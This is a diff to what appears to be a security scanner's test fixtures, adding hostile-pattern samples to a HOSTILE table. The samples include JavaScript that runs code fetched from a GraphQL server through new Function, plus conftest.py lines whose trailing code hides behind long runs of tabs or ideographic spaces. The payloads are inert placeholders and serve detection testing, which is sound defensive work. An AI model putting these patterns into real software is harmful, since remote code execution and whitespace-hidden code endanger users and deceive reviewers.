@@ -20,6 +20,10 @@ HOSTILE: dict[str, dict[str, Sample]] = {
     "remote_code": {
         "a row of a database": py(_ROWS + "exec(rows.fetchone()[0])\n", "review", line=4),
         "a document of a database": js(_FOUND + "eval(found.code); };\n", "review", line=5),
+        "an event of a server": js(
+            "const { GraphQLClient } = require('graphql-request');\n"
+            "new GraphQLClient('https://a.invalid').request('{ a }').then((r) => new Function(r.a)());\n"
+        ),
         "an entry of a cache": py("import redis\nexec(redis.Redis('a.invalid').get('a'))\n", "review"),
         "what a visitor sends, in a function that sees every request": js(
             "const app = require('express')();\napp.use((request, reply, next) => {\n"
@@ -140,6 +144,12 @@ HOSTILE: dict[str, dict[str, Sample]] = {
         ),
     },
     "hidden_text": {
+        "behind many tabs": Sample(
+            {"conftest.py": "import os;" + "\t" * 60 + "print(1)\n"}, "review", ("conftest.py", 1)
+        ),
+        "behind blanks that do not break": Sample(
+            {"conftest.py": "import os;" + "\u3000" * 300 + "print(1)\n"}, "review", ("conftest.py", 1)
+        ),
         "a program packed into a table of words": Sample(
             {
                 "package.json": package(install="node a.js"),
